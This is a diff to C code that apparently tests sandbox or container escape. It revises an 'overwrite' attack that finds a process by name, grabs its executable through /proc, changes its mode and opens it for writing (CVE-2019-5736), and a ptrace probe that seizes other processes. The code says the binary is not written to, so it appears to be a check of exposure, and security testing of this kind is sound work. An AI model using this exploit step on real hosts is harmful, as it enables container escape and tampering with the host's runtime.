@@ -140,8 +140,8 @@ static void name_of(long pid, char name[32])
 	name[length > 0 ? length - 1 : 0] = '\0';
 }
 
-static const char *const doors[] = {"exe", "root", "cwd", "mem", "environ", "maps", "ns/mnt", "fd/0",  "fd/3",
-				    "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9",   "auxv", "stack"};
+static const char *const doors[] = {"exe",  "root", "cwd",  "mem",  "environ", "maps", "auxv", "ns/mnt",
+				    "fd/0", "fd/3", "fd/4", "fd/5", "fd/6",    "fd/7", "fd/8", "fd/9"};
 
 struct sight {
 	long seen;			/* times that the process was looked at */
@@ -175,10 +175,12 @@ static void look_at(long pid, const char *wanted, struct sight *sight)
 	for (size_t i = 0; i < sizeof(doors) / sizeof(*doors); i++)
 		sight->opened[i] += opened[i];
 	if (!ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0)) {
-		sight->traced++;
-		kill((pid_t)pid, SIGSTOP);
+		ptrace(PTRACE_INTERRUPT, (pid_t)pid, 0, 0);
 		waitpid((pid_t)pid, NULL, __WALL);
-		ptrace(PTRACE_DETACH, (pid_t)pid, 0, SIGCONT);
+		/* Now it stands still: as what? */
+		name_of(pid, name);
+		sight->traced += !strcmp(name, wanted);
+		ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
 	}
 }
 
@@ -226,8 +228,8 @@ static int write_through(int file, double end)
 }
 
 /*
- * SECONDS SUFFIX: waits for a process whose program's path ends so, holds on to that program, and opens it for writing (CVE-2019-5736).
- * ESRCH when none came by. It is not written to.
+ * SECONDS NAME: waits for a process of that name, holds on to its program, changes its mode and opens it for writing
+ * (CVE-2019-5736). ESRCH when none could be had. It is not written to.
  */
 ATTACK(overwrite)
 {
@@ -241,21 +243,22 @@ ATTACK(overwrite)
 		return errno;
 	for (end = now() + (double)number_of(argv[1]); now() < end; rewinddir(proc)) {
 		for (struct dirent *entry; (entry = readdir(proc));) {
-			char path[64], target[PATH_MAX];
-			size_t suffix = strlen(argv[2]);
-			ssize_t length;
+			char path[64], name[32];
 			int file;
 
 			if (!isdigit(entry->d_name[0]))
+				continue;
+			name_of(atol(entry->d_name), name);
+			if (strcmp(name, argv[2]))
 				continue;
 			snprintf(path, sizeof(path), "/proc/%ld/exe", atol(entry->d_name));
 			file = open(path, O_PATH | O_CLOEXEC);
 			if (file < 0)
 				continue;
-			snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
-			length = readlink(path, target, sizeof(target));
-			if (length >= (ssize_t)suffix && !memcmp(target + length - suffix, argv[2], suffix)) {
-				printf("held %.*s\n", (int)suffix, target + length - suffix);
+			name_of(atol(entry->d_name), name);
+			if (!strcmp(name, argv[2])) {
+				snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
+				printf("held\nmode %s\n", chmod(path, 0755) ? strerrorname_np(errno) : "ok");
 				return write_through(file, end);
 			}
 			close(file);
